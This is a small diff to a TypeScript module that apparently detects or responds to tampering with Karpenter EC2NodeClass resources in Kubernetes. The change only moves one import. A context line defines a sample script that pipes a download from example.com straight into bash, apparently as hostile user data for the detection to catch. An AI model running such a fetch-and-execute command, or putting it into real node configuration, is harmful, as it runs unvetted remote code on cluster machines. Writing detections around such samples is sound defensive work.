@@ -1,9 +1,10 @@
+import { stopProvisioning } from '../../core/cloudtrail/steps.ts';
 import { kubernetes } from '../../core/detection.ts';
 import { audit, users } from '../../core/kubernetes/example.ts';
 import { hashedUserData } from '../../core/kubernetes/kept.ts';
 import type { Reading } from '../../core/kubernetes/reading.ts';
 import { byObject } from '../../core/kubernetes/said.ts';
-import { compare, confirm, lookAround, preserveNode, stopProvisioning } from '../../core/kubernetes/steps.ts';
+import { compare, confirm, lookAround, preserveNode } from '../../core/kubernetes/steps.ts';
 
 const target = 'ec2nodeclasses.karpenter.k8s.aws';
 const script = '#!/bin/bash\ncurl -s https://example.com/a | bash\n';
